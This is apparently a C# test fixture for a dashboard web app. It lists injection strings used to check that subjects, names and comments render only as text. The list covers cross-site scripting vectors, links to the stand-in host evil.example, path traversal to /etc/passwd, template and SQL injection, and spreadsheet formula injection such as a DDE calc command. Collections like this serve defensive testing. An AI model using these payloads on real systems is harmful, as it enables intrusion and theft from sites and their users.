namespace Deskmeter.App.Tests.Web;

/// <summary>
/// Texts that people with bad intentions have as a subject, a name or a comment. Each leaves a mark where it is taken for anything but a
/// text: an element, an attribute or a variable with "pwned" in its name, a dialog, or a request to another host.
/// </summary>
internal static class Payloads
{
    /// <summary>The shortest of the fields in which they are put take so many characters.</summary>
    public const int Longest = 500;

    private static readonly string[] BreakTags =
    [
        "<script>pwned=1</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>pwned=1</scr</script>ipt>", "<script>alert(1)</script>", "<script/pwned>pwned=1</script >",
        "<img src=x onerror=pwned=1>", "<img/src=`x`onerror=pwned=1>", "<image src=x onerror=pwned=1>", "<IMG SRC=//evil.example/a.gif pwned>", "<img src=x onerror=\"alert('x')\">",
        "<body onload=pwned=1>", "<iframe src=//evil.example pwned></iframe>", "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<object data=//evil.example pwned></object>",
        "<embed src=//evil.example pwned>", "<video src=x onerror=pwned=1></video>", "<video><source onerror=pwned=1></video>", "<audio src=x onerror=pwned=1>", "<details open ontoggle=pwned=1>",
        "<input autofocus onfocus=pwned=1>", "<select autofocus onfocus=pwned=1>", "<textarea autofocus onfocus=pwned=1>", "<marquee onstart=pwned=1>", "<base href=//evil.example/ pwned>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example pwned><button>", "<b pwned>bold</b>", "<x-pwned>",
        "<dialog open pwned>", "<button popovertarget=nav pwned>", "<template shadowrootmode=open><b pwned></template>", "<trend-chart pwned data-ticks='[{\"v\":1}]'></trend-chart>",
        "<live-feed pwned data-src=//evil.example></live-feed>", "<kpi-editor pwned></kpi-editor>", "<span hidden data-reload=1 pwned></span>", "<a href=# accesskey=x onclick=pwned=1>x</a>", "<p/onclick=pwned=1>",
    ];

    private static readonly string[] EndElements =
    [
        "</title><b pwned>", "</textarea><b pwned>", "</select><b pwned>", "</option></select><img src=x onerror=pwned=1>", "</noscript><b pwned>", "</td></tr></table><b pwned>", "</style><b pwned>",
        "--><b pwned>", "--!><b pwned>", "]]><b pwned>", "<![CDATA[<b pwned>]]>", "<!--<b pwned>-->", "<!--><img src=x onerror=pwned=1>", "<?xml pwned?><b pwned>", "</h1></main></body></html><b pwned>", "</details></ul><b pwned>",
        "</code></pre><b pwned>", "</a><a href=//evil.example pwned>",
    ];

    private static readonly string[] BreakAttributes =
    [
        "\" onmouseover=\"pwned=1", "' onmouseover='pwned=1", "\" autofocus onfocus=\"pwned=1\" x=\"", "\"><b pwned>", "'><b pwned>", "`><b pwned>", "\" pwned=\"", "' pwned='", "\"/><script>pwned=1</script>",
        "\" style=\"background:url(//evil.example)", "&quot; onclick=&quot;pwned=1", "&#34; pwned=&#34;", "\" formaction=\"javascript:pwned=1", "\" href=\"javascript:pwned=1", "x\" id=\"main\" pwned=\"",
        "\" data-turbo-method=\"delete\" pwned=\"", "\"\tonpointerenter=\"pwned=1", "\"\nonload=\"pwned=1", "=\"pwned", "/ pwned /", " pwned=1 ", "\\\" pwned=\\\"",
    ];

    private static readonly string[] BreakScripts =
    [
        "</script><script>pwned=1</script>", "</script><b pwned>", "<!--<script>pwned", "\\u003cscript\\u003epwned=1\\u003c/script\\u003e", "\"};pwned=1;//", "\"]};pwned=1;//", "';pwned=1;'", "\\\";pwned=1;//", "`;pwned=1;`",
        "${pwned=1}", "{\"__proto__\":{\"pwned\":1}}", "__proto__", "constructor", "hasOwnProperty", "toString", "\u2028pwned=1", "\u2029pwned=1", "*/pwned=1/*", "{{constructor.constructor('pwned=1')()}}", "<%= pwned %>",
    ];

    private static readonly string[] Drawings =
    [
        "<svg onload=pwned=1>", "<svg/onload=pwned=1>", "<svg><script>pwned=1</script></svg>", "<svg><script href=//evil.example/x.js /></svg>", "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:pwned=1 />", "<svg><a xlink:href=javascript:pwned=1><text>x</text></a></svg>", "<svg><use href=//evil.example/x.svg#x pwned></svg>", "<svg><image href=//evil.example/x.png pwned></svg>",
        "<svg><foreignObject><b pwned></foreignObject></svg>", "<svg><style>@import '//evil.example/x.css'</style></svg>", "<svg><title><b pwned></title></svg>", "<math><mi xlink:href=javascript:pwned=1>x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>", "<math><annotation-xml encoding=text/html><b pwned></annotation-xml></math>", "</text></svg><b pwned>", "</path><b pwned>",
        "<svg><desc><img src=x onerror=pwned=1></desc></svg>",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:pwned=1", "JaVaScRiPt:pwned=1", "java\tscript:pwned=1", "&#106;avascript:pwned=1", "javascript&colon;pwned=1", "javascript://%0apwned=1", "data:text/html,<script>pwned=1</script>",
        "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+", "vbscript:pwned", "//evil.example/", "https://evil.example/", "\\\\evil.example\\x", "/\\evil.example", "../../../../etc/passwd", "..%2f..%2fstate.db", "?where=channel%3Dx",
        "#main", "&kpi=tickets_created", "a=b,c!=d", "a\\,b", "%3Cb%20pwned%3E", "%00", "http://127.0.0.1@evil.example/", "file:///etc/passwd",
    ];

    private static readonly string[] Styles =
    [
        "<style>*{background:url(//evil.example/x)}</style>", "<style>@import url(//evil.example/x.css);</style>", "<b style=background:url(//evil.example/x) pwned>", "}body{display:none}", "expression(pwned=1)",
        ";background:url(//evil.example/x)", "</style><img src=x onerror=pwned=1>", "<b style='animation:x' onanimationstart=pwned=1>", "red;--x:url(//evil.example/x)",
    ];

    private static readonly string[] Templates =
    [
        "{{7*7}}", "${7*7}", "#{7*7}", "<%=7*7%>", "{0}", "{n}", "{slice}: {values}", "{part} of {whole}", "{kpi}{now}{before}", "@pwned", "@(pwned)", "@Model.Pwned", "%s%n%x", "{a}{b}{c}", "{@[0]}", "{pwned|x}", "$1 $& $'", "[[pwned]]", "*{pwned}", "{%raw%}",
    ];

    private static readonly string[] Letters =
    [
        "\u202egnp.exe \u202dbidi", "\u2066isolate\u2069 \u200fmark", "\uff1cscript\uff1epwned=1\uff1c/script\uff1e", "\u02c2b pwned\u02c3", "zero\u200bwidth\u200djoiner", "\ufeffmark of byte order", "e\u0301\u0301\u0301\u0301 combining", "\ud83e\udd89\ud83c\udffd owl",
        "replacement \ufffd", "soft\u00adhyphen", "\u0130\u0131\u00df\ufb03 case", "שלום عربي", "c0 \u0001\u001b[31m", "del \u007f c1 \u0085", "\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc7f flag", "ﷺ wide", "<\u0000b pwned>", "\u0000",
    ];

    private static readonly string[] Streams =
    [
        "<turbo-stream action=\"append\" target=\"main\"><template><b pwned></b></template></turbo-stream>", "<turbo-stream action=\"replace\" targets=\"h1\"><template><h1 pwned></h1></template></turbo-stream>",
        "<turbo-stream action=\"refresh\"></turbo-stream>", "</template></turbo-stream><turbo-stream action=\"update\" target=\"live-figures\"><template><b pwned>", "</template><b pwned>", "<turbo-frame src=//evil.example id=main pwned></turbo-frame>",
        "<turbo-stream-source src=//evil.example pwned></turbo-stream-source>", "<turbo-cable-stream-source pwned>", "data: <b pwned>\n\nevent: figures", "event: hello\ndata: pwned\n\n", "<meta name=turbo-visit-control content=reload pwned>",
    ];

    private static readonly string[] Formulas =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"//evil.example\",\"x\")", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\"=1+1", "'=1+1", "  =1+1", "=1+1;=2+2", "a\"b,c\r\n=1+1", "%0A=1+1", "|calc", "＝1+1", "-2", "+31 6 1234", "=\u00a01+1",
        "'; drop table ticket; --", "\" or \"\"=\"", "%_\\%", "null", "NaN",
    ];

    /// <summary>Those that a record may hold: a NUL is refused.</summary>
    public static IReadOnlyList<string> Kept { get; } = [.. All().Where(text => !text.Contains('\0', StringComparison.Ordinal))];

    /// <summary>Those that no record may hold, so that they lie in quarantine.</summary>
    public static IReadOnlyList<string> Refused { get; } = [.. All().Except(Kept)];

    private static IEnumerable<string> All() =>
        [.. BreakTags, .. EndElements, .. BreakAttributes, .. BreakScripts, .. Drawings, .. Addresses, .. Styles, .. Templates, .. Letters, .. Streams, .. Formulas, new string('W', Longest - 4) + "<b>", "<b pwned " + new string('x', 300)];
}
